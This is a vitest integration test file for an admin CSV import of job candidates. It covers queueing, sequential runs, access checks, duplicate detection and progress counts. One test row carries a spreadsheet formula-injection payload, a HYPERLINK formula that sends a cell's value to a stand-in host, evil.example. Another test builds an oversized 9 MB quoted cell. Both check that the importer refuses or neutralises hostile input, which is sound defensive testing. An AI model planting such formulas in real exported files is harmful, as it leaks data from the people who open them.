/**
 * Imports started from the console: an admin uploads a file, the import runs as a graphile-worker
 * job while its progress is polled, and ends with the counts and a downloadable rejection report.
 * The same file is never imported twice at once, imports run one after another, and the progress
 * counts rejections as they happen.
 */
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importCandidates, type ImportProgress } from '../../backend/features/talent';
import { startWorker, type Worker } from '../../backend/jobs/worker';
import { testApp, type TestApp } from '../helpers/app';
import { tempDirUntilFileEnd } from '../helpers/fileEnd';

const HEADER =
  'email,firstName,lastName,currentLocation,preferredLocations,jobTitles,typeOfEmployment,expectedSalary,noticePeriod,skills';
const good = (email: string) =>
  `${email},Ana,Lim,Singapore (SG),Singapore (SG):1,Software Engineer,1,7000,1:1,TypeScript*; React`;
const bad = (email: string) => `${email},Ana,Lim,Singapore (SG),Singapore (SG):1,Software Engineer,1,,1:1,TypeScript`;

let t: TestApp;
let admin: string;
let worker: Worker | undefined;

beforeAll(async () => {
  t = await testApp();
  admin = await t.login('admin@example.com');
});

afterAll(async () => {
  await worker?.stop();
});

const upload = (token: string | undefined, name: string, content: string) => {
  const req = t.http.post('/api/v1/candidates/imports');
  if (token) req.set('Authorization', `Bearer ${token}`);
  return req.attach('file', Buffer.from(content), name);
};

const status = (id: string) => t.http.get(`/api/v1/candidates/imports/${id}`).set('Authorization', `Bearer ${admin}`);

async function finished(id: string) {
  await expect
    .poll(async () => (await status(id)).body.status, { timeout: 60_000, interval: 200 })
    .toMatch(/^(done|failed)$/);
  return (await status(id)).body;
}

describe('Importing candidates from the console', () => {
  // The last row's email is a spreadsheet formula: refused, and written to the report as text a spreadsheet will not run.
  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
  const file = `${HEADER}\n${good('console.one@import.example.com')}\n${bad('console.bad@import.example.com')}\n${good('console.two@import.example.com')}\n${good(`"${formula.replace(/"/g, '""')}"`)}\n`;

  it('An admin uploads a file; it waits for the worker, and the same file cannot be started again meanwhile', async () => {
    const started = await upload(admin, 'talent.csv', file);
    expect(started.status, JSON.stringify(started.body)).toBe(201);
    expect(started.body).toMatchObject({
      id: expect.stringMatching(/^CandidateImport:\d+$/),
      fileName: 'talent.csv',
      status: 'queued',
      totalBytes: file.length,
    });

    const again = await upload(admin, 'renamed.csv', file);
    expect(again.status).toBe(409);
    expect(again.body.error).toMatchObject({ code: 'import.errors.alreadyRunning', importId: started.body.id });
    expect(await t.knex('candidate_imports').count({ n: '*' }).first()).toEqual({ n: 1 });

    worker = await startWorker(t.url, t.config, 2);
    const done = await finished(started.body.id);
    expect(done).toMatchObject({
      status: 'done',
      rows: 4,
      created: 2,
      updated: 0,
      rejected: 2,
      bytesRead: file.length,
      reportAvailable: true,
      error: null,
    });
    expect(
      await t
        .knex('candidates')
        .whereIn('email', ['console.one@import.example.com', 'console.two@import.example.com'])
        .count({ n: '*' })
        .first(),
    ).toEqual({
      n: 2,
    });

    const report = await t.http
      .get(`/api/v1/candidates/imports/${started.body.id}/report`)
      .set('Authorization', `Bearer ${admin}`);
    expect(report.status).toBe(200);
    expect(report.headers['content-type']).toMatch(/^text\/csv/);
    expect(report.headers['content-disposition']).toBe('attachment; filename="talent.rejected.csv"');
    // A byte-order mark first, for spreadsheets.
    expect(report.text.startsWith('\ufeff')).toBe(true);
    const lines = report.text.slice(1).trim().split('\n');
    expect(lines[0]).toBe('row,email,reasons');
    expect(lines.slice(1)).toHaveLength(2);
    expect(lines[1]).toMatch(
      /^3,console\.bad@import\.example\.com,"?Expected minimum basic salary: Enter the expected minimum basic salary/,
    );
    // Emails are read in lower case.
    expect(lines[2]).toMatch(/^5,"'=hyperlink\(""https:\/\/evil\.example\/\?""&a1,""open""\)",Email: /);

    // Finished, the same file may run again: known emails are updated.
    const rerun = await upload(admin, 'talent.csv', file);
    expect(rerun.status).toBe(201);
    expect(await finished(rerun.body.id)).toMatchObject({ status: 'done', created: 0, updated: 2, rejected: 2 });
  });

  it('Two imports run one after another, never interleaved', async () => {
    const rows = (prefix: string) =>
      Array.from({ length: 30 }, (_, i) => good(`${prefix}${i}@import.example.com`)).join('\n');
    const first = await upload(admin, 'first.csv', `${HEADER}\n${rows('queue.a')}\n`);
    const second = await upload(admin, 'second.csv', `${HEADER}\n${rows('queue.b')}\n`);
    expect([first.status, second.status]).toEqual([201, 201]);
    await finished(first.body.id);
    await finished(second.body.id);
    const [a, b] = await t
      .knex('candidate_imports')
      .whereIn('file_name', ['first.csv', 'second.csv'])
      .orderBy('id')
      .select('started_at', 'finished_at');
    expect(new Date(b.started_at).getTime()).toBeGreaterThanOrEqual(new Date(a.finished_at).getTime());
  });

  it('Only admins may import; a file of another kind or an empty one is refused with a field message', async () => {
    const company = await t.login('owner@acme.example.com');
    expect((await upload(company, 'x.csv', file)).status).toBe(403);
    expect((await upload(undefined, 'x.csv', file)).status).toBe(401);
    const wrong = await upload(admin, 'people.xlsx', file);
    expect(wrong.status).toBe(400);
    expect(wrong.body.error.fields).toEqual({ file: 'import.errors.fileType' });
    expect((await upload(admin, 'empty.csv', '')).body.error.fields).toEqual({ file: 'import.errors.empty' });
    const none = await t.http
      .post('/api/v1/candidates/imports')
      .set('Authorization', `Bearer ${admin}`)
      .field('note', 'no file');
    expect(none.status).toBe(400);
    expect(
      (await t.http.get('/api/v1/candidates/imports/CandidateImport:999999').set('Authorization', `Bearer ${admin}`))
        .status,
    ).toBe(404);
    expect(
      (await t.http.get('/api/v1/candidates/imports/CandidateImport:1').set('Authorization', `Bearer ${company}`))
        .status,
    ).toBe(403);
  });
});

describe('A hostile file', () => {
  it('with one quoted cell of three million doubled quotes (9 MB) ends done: that row refused, the others imported', async () => {
    worker ??= await startWorker(t.url, t.config, 2);
    const hostile = good('hostile.cell@import.example.com').replace(',Ana,', `,"${'a""'.repeat(3_000_000)}",`);
    const started = await upload(
      admin,
      'hostile.csv',
      `${HEADER}\n${hostile}\n${good('after.hostile@import.example.com')}\n`,
    );
    expect(started.status, JSON.stringify(started.body)).toBe(201);
    expect(await finished(started.body.id)).toMatchObject({
      status: 'done',
      rows: 2,
      created: 1,
      rejected: 1,
      error: null,
    });
    expect(await t.knex('candidates').where({ email: 'after.hostile@import.example.com' }).first('id')).toBeTruthy();
  });
});

describe('Likely duplicates in an import', () => {
  const WIDE = `${HEADER},phone,linkedInUrl,githubUrl`;
  const person = (
    email: string,
    first: string,
    last: string,
    ids: { phone?: string; linkedIn?: string; github?: string } = {},
  ) =>
    `${email},${first},${last},Singapore (SG),Singapore (SG):1,Software Engineer,1,7000,1:1,TypeScript*; React,${ids.phone ?? ''},${ids.linkedIn ?? ''},${ids.github ?? ''}`;

  it('are imported, told per row in the report and the import result, and wait in the review queue; near misses are not', async () => {
    worker ??= await startWorker(t.url, t.config, 2);
    const pool = [
      person('Maya.Tan+work@gmail.com', 'Maya', 'Tan'),
      person('ravi.kumar@pool.example.com', 'Ravi', 'Kumar', { phone: '+659 123 4567' }),
      person('jane.doe@pool.example.com', 'Jane', 'Doe', { linkedIn: 'https://www.linkedin.com/in/jane-doe-123' }),
    ];
    const first = await upload(admin, 'pool.csv', `${WIDE}\n${pool.join('\n')}\n`);
    expect(await finished(first.body.id)).toMatchObject({
      status: 'done',
      created: 3,
      likelyDuplicates: 0,
      duplicates: [],
    });
    const idOf = async (email: string) =>
      `Candidate:${(await t.knex('candidates').where({ email }).first('id')).id as number}`;

    const rows = [
      // Twins of the pool, each by one reason: the same gmail address without its dots and +tag, the
      // same phone written another way, the same LinkedIn handle in another form of address.
      person('mayatan@gmail.com', 'Maya', 'Tan'),
      person('r.kumar@file.example.com', 'R', 'Kumar', { phone: '+6591234567' }),
      person('jdoe@file.example.com', 'J', 'Doe', { linkedIn: 'https://linkedin.com/in/Jane-Doe-123/?trk=x' }),
      // Near misses: one digit of the phone, a longer handle.
      person('other.phone@file.example.com', 'Rafi', 'Kumaran', { phone: '+659 123 4568' }),
      person('other.handle@file.example.com', 'Janet', 'Doer', { linkedIn: 'https://linkedin.com/in/jane-doe-1234' }),
      // Two rows of the file itself, by their GitHub handle; and a refused row between them.
      person('omar@file.example.com', 'Omar', 'Haddad', { github: 'https://github.com/omarh' }),
      `no.salary@file.example.com,Ana,Lim,Singapore (SG),Singapore (SG):1,Software Engineer,1,,1:1,TypeScript,,,`,
      person('omar.h@file.example.com', 'Omar', 'Hadad', { github: 'https://github.com/OmarH' }),
    ];
    const started = await upload(admin, 'twins.csv', `${WIDE}\n${rows.join('\n')}\n`);
    expect(started.status, JSON.stringify(started.body)).toBe(201);
    const done = await finished(started.body.id);
    // Nothing refused for being a likely duplicate: only the row without a salary.
    expect(done).toMatchObject({ status: 'done', rows: 8, created: 7, rejected: 1, likelyDuplicates: 4 });
    const [maya, ravi, jane, omar] = await Promise.all(
      [
        'maya.tan+work@gmail.com',
        'ravi.kumar@pool.example.com',
        'jane.doe@pool.example.com',
        'omar@file.example.com',
      ].map(idOf),
    );
    expect(
      done.duplicates.map((n: { row: number; email: string; candidateId: string; twins: object[] }) => [
        n.row,
        n.email,
        n.twins,
      ]),
    ).toEqual([
      [2, 'mayatan@gmail.com', [expect.objectContaining({ otherId: maya, otherRow: null, reasons: ['email'] })]],
      [3, 'r.kumar@file.example.com', [expect.objectContaining({ otherId: ravi, otherRow: null, reasons: ['phone'] })]],
      [4, 'jdoe@file.example.com', [expect.objectContaining({ otherId: jane, otherRow: null, reasons: ['linkedIn'] })]],
      [9, 'omar.h@file.example.com', [expect.objectContaining({ otherId: omar, otherRow: 7, reasons: ['github'] })]],
    ]);
    expect(done.duplicates[0].candidateId).toBe(await idOf('mayatan@gmail.com'));

    // The report tells them in file order beside the refused row, with the twin's console address.
    const report = await t.http
      .get(`/api/v1/candidates/imports/${started.body.id}/report`)
      .set('Authorization', `Bearer ${admin}`)
      .expect(200);
    const lines = report.text.trim().split('\n');
    expect(lines.slice(1).map((l) => l.split(',')[0])).toEqual(['2', '3', '4', '8', '9']);
    // Each twin by name, its id beside it for the console.
    expect(lines[1]).toContain(`Imported: likely duplicate of Maya Tan (${maya}) (Same email, `);
    expect(lines[1]).toContain(`${t.config.publicUrl}/admin/talent/${encodeURIComponent(maya)}`);
    expect(lines[2]).toContain('(Same phone, ');
    expect(lines[3]).toContain('(Same LinkedIn, ');
    expect(lines[4]).toContain('Expected minimum basic salary');
    expect(lines[5]).toContain(`likely duplicate of Omar Haddad (${omar}) on row 7 (Same GitHub, `);

    // Each pair waits in the console's review queue.
    const queue = await t.http.get('/api/v1/candidate-duplicates?perPage=100').set('Authorization', `Bearer ${admin}`);
    expect(queue.status).toBe(200);
    const pairIds = done.duplicates.map((n: { twins: { pairId: number }[] }) => n.twins[0].pairId);
    const listed = (queue.body.data ?? queue.body) as { id: number | string }[];
    for (const id of pairIds) expect(listed.map((p) => Number(p.id))).toContain(id);
  });
});

describe('Import progress', () => {
  it('counts rejections as they happen, not only at the end', async () => {
    const dir = tempDirUntilFileEnd('import-progress');
    const file = path.join(dir, 'progress.csv');
    // Three batches of ten: the first batch is all rejections.
    const lines = [
      ...Array.from({ length: 10 }, (_, i) => bad(`early.bad${i}@import.example.com`)),
      ...Array.from({ length: 20 }, (_, i) => good(`later.good${i}@import.example.com`)),
    ];
    await writeFile(file, `${HEADER}\n${lines.join('\n')}\n`);
    const seen: ImportProgress[] = [];
    const result = await importCandidates({
      file,
      knex: t.knex,
      connectionString: t.url,
      batchSize: 10,
      threads: 0,
      onProgress: (p) => seen.push({ ...p }),
    });
    expect(result).toMatchObject({ rows: 30, created: 20, rejected: 10 });
    const last = seen[seen.length - 1];
    expect(last).toMatchObject({ rows: 30, created: 20, rejected: 10, bytesRead: last.totalBytes });
    for (const p of seen) {
      expect(p.rejected + p.created + p.updated, JSON.stringify(p)).toBe(p.rows);
    }
    expect(seen.some((p) => p.rows < 30 && p.rejected === 10)).toBe(true);
  });
});
